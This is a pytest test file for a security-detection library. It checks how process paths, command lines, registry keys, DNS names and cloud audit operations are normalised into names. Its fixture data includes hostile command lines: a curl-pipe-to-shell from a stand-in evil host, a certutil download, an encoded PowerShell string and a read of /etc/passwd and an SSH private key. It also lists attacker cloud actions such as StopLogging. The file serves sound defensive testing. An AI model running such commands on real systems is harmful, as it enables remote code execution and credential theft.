"""Names: what varies without meaning folds away, what has meaning stays."""

import polars as pl
import pytest

from nonself.core.events import conform
from nonself.detect import names
from nonself.detect.view import View

FOLDS = [
    ("image_name", r"C:\Windows\System32\RUNDLL32.exe", "rundll32.exe"),
    ("image_name", r"C:\Users\ann\AppData\Local\Temp\{6F9619FF-8B86-D011-B42D-00C04FC964FF}\Setup.1.20.3.exe", "setup.#.exe"),
    ("image_name", r"C:\Temp\is-4F2K1.tmp\x.exe", "x.exe"),
    ("image_name", r"C:\Temp\~df394b.tmp", "~#"),
    ("image_name", "/usr/bin/python3.11", "python#"),
    ("image_name", "svchost.exe", "svchost.exe"),
    ("image_shape", r"C:\Users\ann\Downloads\a.exe", r"\users\#\downloads\a.exe"),
    ("image_shape", r"D:\Users\bob\Downloads\A.EXE", r"\users\#\downloads\a.exe"),
    ("image_shape", r"\Device\HarddiskVolume3\Windows\System32\cmd.exe", r"\windows\system32\cmd.exe"),
    ("arguments", "certutil.exe -urlcache -split -f http://198.51.100.7/a/b.txt", "-urlcache -split -f http://#.#.#.#"),
    ("arguments", r'"C:\Program Files\a b.exe" /p:7 "C:\Users\ann\Docs\x12.doc" /p:8', r"/p:# \users\#\docs\ x#.doc"),
    ("arguments", "powershell -enc " + "QWxsb3cgdGhpcyBvbmUgcGxlYXNlIG5vdyBhbmQgdGhlbg/" * 3 + "==", "-enc ##"),
    ("arguments", "sh -c curl https://Evil.example:8443/x|sh", "-c curl https://evil.example sh"),
    ("arguments", "cat /etc/passwd /home/ann/.ssh/id_rsa", "/etc/ passwd /home/#/.ssh/ id_rsa"),
    ("arguments", "whoami", ""),
    ("arguments", "x " + " ".join("abcdefghij"), "a b c d e f g h i j"),
    ("started_by", None, "?"),
    ("reg_key_shape", r"HKU\S-1-5-21-1-2-3-1001\Software\Run\A", r"hku\#\software\run\a"),
    ("reg_key_shape", r"\REGISTRY\MACHINE\System\Services\x", r"hklm\system\services\x"),
    ("query_parent", "a.b.www.Example.com.", "example.com"),
    ("query_parent", "mail.example.co.uk", "example.co.uk"),
    ("query_parent", "1.0.168.192.in-addr.arpa", "in-addr.arpa"),
    ("query_parent", "localhost", None),
    ("query_domain", "a.b.www.Example.com.", "example.com"),
    ("query_domain", "a.qz.ddns.net", "qz.ddns.net"),
    ("query_domain", "x.corp.internal", "corp.internal"),
    ("query_domain", "1.0.168.192.in-addr.arpa", None),
    ("cmd_text", " Cmd /c {6F9619FF-8B86-D011-B42D-00C04FC964FF} aB9 ", "Cmd /c # aB9"),
    ("program_file", r"C:\Temp\aB3xQ.EXE", "aB3xQ.EXE"),
    ("program_file", "/opt/aB3xQ", "aB3xQ"),
    ("program_file", "C:\\Temp\\", None),
    ("sni_parent", "cdn.example.org", "example.org"),
    ("site", "www.example.com:8080", "example.com"),
    ("site", "192.0.2.7:8080", "192.0.2.7"),
    ("user_agent_shape", "Mozilla/5.0 (X11; rv:109.0) Firefox/115.0", "mozilla/# (x#; rv:#) firefox/#"),
    ("service_shape", "OneSyncSvc_1a2b3c4d", "onesyncsvc_1a2b3c4d"),
    ("tls_client", "AABB", "aabb"),
]
SOURCES = {
    "image_name": "image", "image_shape": "image", "arguments": "cmdline", "started_by": "parent_image",
    "reg_key_shape": "reg_key", "query_parent": "query", "query_domain": "query", "cmd_text": "cmdline", "program_file": "image",
    "sni_parent": "sni", "site": "url_host", "user_agent_shape": "user_agent", "service_shape": "service", "tls_client": "ja3",
}  # fmt: skip


def strings(events, name):
    """A name of every event, as a view of them gives it."""
    found = View(events, {}).name(name)
    return [found.values[int(code)] if code >= 0 else None for code in found.codes]


def made(name, **columns):
    events = conform(pl.DataFrame({column: [value] for column, value in columns.items()}))
    return strings(events, name)[0]


@pytest.mark.parametrize(("name", "given", "expected"), FOLDS)
def test_folding(name, given, expected):
    assert made(name, **{SOURCES[name]: given}) == expected


DEEDS = [
    ("consent_deed", "op", "Consent to application", "AuthorizeSecurityGroupIngress"),
    ("consent_deed", "op", "authorize", "deauthorize"),
    ("mailbox_deed", "op", "New-InboxRule", "MailItemsAccessed"),
    ("factor_deed", "op", "user.mfa.factor.activate", "user.session.start"),
    ("credential_deed", "op", "CreateAccessKey", "ListAccessKeys"),
    ("secret_deed", "op", "GetSecretValue", "CreateSecret"),
    ("audit_deed", "op", "StopLogging", "DescribeTrails"),
    ("sharing_deed", "op", "AnonymousLinkCreated", "FileModified"),
    ("kube_deed", "url_path", "/api/v1/namespaces/a/pods/b/exec?command=sh", "/api/v1/namespaces/a/pods"),
]


@pytest.mark.parametrize(("name", "column", "deed", "other"), DEEDS)
def test_a_deed_is_told_from_anything_else(name, column, deed, other):
    assert made(name, **{column: deed}) not in (None, "anything else") and made(name, **{column: other}) == "anything else"
    assert made(name, host="ws1") is None


def test_a_machine_is_the_host_where_the_record_names_one():
    assert made("machine", host="WS5.corp.example", src_ip="10.0.0.1") == "host:ws5"
    assert made("machine", src_ip="10.0.0.1") == "ip:10.0.0.1" and made("machine", user="ann") is None


def test_a_person_is_no_machine_account_and_no_service_of_a_cloud():
    users = ["ann", "ws5$", "lambda.amazonaws.com", "job@shop.iam.gserviceaccount.com", "ann@site.org", None]
    frame = conform(pl.DataFrame({"user": users, "user_uid": [None, None, None, None, None, "AIDA1"]}))
    assert frame.select(names.expression("person")).to_series().to_list() == [
        "user:ann",
        None,
        None,
        None,
        "user:ann@site.org",
        "user:aida1",
    ]


def test_ports_handed_out_to_clients_are_one():
    assert made("port", dst_port=50_000, proto="tcp") == "tcp/high" and made("port", dst_port=443, proto="tcp") == "tcp/443"
    assert made("port", proto="tcp") is None


@pytest.mark.parametrize("name", sorted(names.known() - {"answers", "tactics"}))
def test_looking_up_gives_what_working_out_gives(name):
    """Names are worked out once per distinct value."""
    row = {
        "host": "ws1",
        "user": "Ann",
        "image": r"C:\a\b.exe",
        "src_ip": "10.0.0.1",
        "url_host": "a.example.com",
        "query": "x.example.org",
    }
    small = conform(pl.DataFrame([row, {**row, "user": None}, {**row, "host": None, "src_ip": "10.0.0.2"}]))
    large = pl.concat([small] * 180)
    assert strings(large, name)[-3:] == small.select(names.expression(name)).to_series().to_list()


def test_a_name_of_missing_columns_is_null():
    events = pl.DataFrame({"uid": ["a", "b"]})
    assert all(strings(events, name) == [None, None] for name in ("machine", "image_name", "port"))
